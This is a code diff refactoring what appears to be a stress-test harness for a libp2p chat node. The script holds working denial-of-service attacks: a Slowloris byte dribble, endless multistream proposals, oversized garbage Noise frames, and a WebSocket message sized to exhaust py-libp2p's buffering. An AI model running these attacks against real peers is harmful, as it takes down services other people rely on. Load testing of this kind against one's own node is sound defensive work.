@@ -24,6 +24,7 @@ from libp2p.security.noise.transport import Transport as NoiseTransport
 from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX_PROTOCOL_ID
 from libp2p.stream_muxer.yamux.yamux import Yamux
 from libp2p.transport.upgrader import TransportUpgrader
+from p2pchat.node.wire.framing import encode_uvarint
 from trio_websocket import ConnectionClosed, HandshakeError, wrap_client_stream
 
 MULTISTREAM = b"/multistream/1.0.0\n"
@@ -32,16 +33,7 @@ NOISE = b"/noise\n"
 
 def delimited(line: bytes) -> bytes:
     """A multistream-select message: uvarint length, then the line."""
-    length = len(line)
-    prefix = bytearray()
-    while True:
-        byte = length & 0x7F
-        length >>= 7
-        if length:
-            prefix.append(byte | 0x80)
-        else:
-            prefix.append(byte)
-            return bytes(prefix) + line
+    return encode_uvarint(len(line)) + line
 
 
 def sources(first: int, count: int) -> list[str]:
@@ -70,6 +62,17 @@ async def open_from(source: str, port: int) -> trio.SocketStream:
         sock.close()
         raise
     return trio.SocketStream(sock)
+
+
+async def _opened(source: str, port: int, tally: Tally) -> trio.SocketStream | None:
+    """:func:`open_from`, counted in ``tally`` as opened or failed (then None)."""
+    try:
+        stream = await open_from(source, port)
+    except OSError:
+        tally.failed += 1
+        return None
+    tally.opened += 1
+    return stream
 
 
 async def _until_closed(stream: trio.SocketStream, tally: Tally) -> None:
@@ -113,12 +116,9 @@ def half_noise_bytes() -> bytes:
 async def dribble(port: int, source: str, tally: Tally, every: float = 0.5) -> None:
     """Slowloris: a valid multistream header, one byte every ``every`` s, forever."""
     data = delimited(MULTISTREAM) * 1000
-    try:
-        stream = await open_from(source, port)
-    except OSError:
-        tally.failed += 1
+    stream = await _opened(source, port, tally)
+    if stream is None:
         return
-    tally.opened += 1
     try:
         for byte in data:
             await stream.send_all(bytes([byte]))
@@ -130,12 +130,9 @@ async def dribble(port: int, source: str, tally: Tally, every: float = 0.5) -> N
 async def endless_proposals(port: int, source: str, tally: Tally) -> None:
     """A multistream negotiation that never ends: protocol after protocol the victim does not
     speak (it answers ``na`` to each), as fast as it answers."""
-    try:
-        stream = await open_from(source, port)
-    except OSError:
-        tally.failed += 1
+    stream = await _opened(source, port, tally)
+    if stream is None:
         return
-    tally.opened += 1
     proposal = delimited(b"/junk/" + b"x" * 200 + b"\n") * 20
     try:
         await stream.send_all(delimited(MULTISTREAM))
@@ -149,12 +146,9 @@ async def endless_proposals(port: int, source: str, tally: Tally) -> None:
 async def junk(port: int, source: str, tally: Tally, size: int = 256 * 1024) -> None:
     """A valid multistream and Noise proposal, then ``size`` random bytes as Noise frames of
     the largest length: a handshake of garbage, as large as the framing allows."""
-    try:
-        stream = await open_from(source, port)
-    except OSError:
-        tally.failed += 1
+    stream = await _opened(source, port, tally)
+    if stream is None:
         return
-    tally.opened += 1
     frame = struct.pack(">H", 65535) + os.urandom(65535)
     try:
         await stream.send_all(delimited(MULTISTREAM) + delimited(NOISE))
@@ -214,12 +208,9 @@ async def websocket_message(port: int, source: str, tally: Tally, size: int = 30
     """A WebSocket client (TCP and WebSocket share the victim's port) that sends one binary
     message of ``size`` bytes before any libp2p handshake: py-libp2p's WebSocket layer
     buffers whole messages of up to 32 MiB before reading them."""
-    try:
-        stream = await open_from(source, port)
-    except OSError:
-        tally.failed += 1
+    stream = await _opened(source, port, tally)
+    if stream is None:
         return
-    tally.opened += 1
     try:
         async with trio.open_nursery() as nursery:
             ws = await wrap_client_stream(nursery, stream, "127.0.0.1", "/")
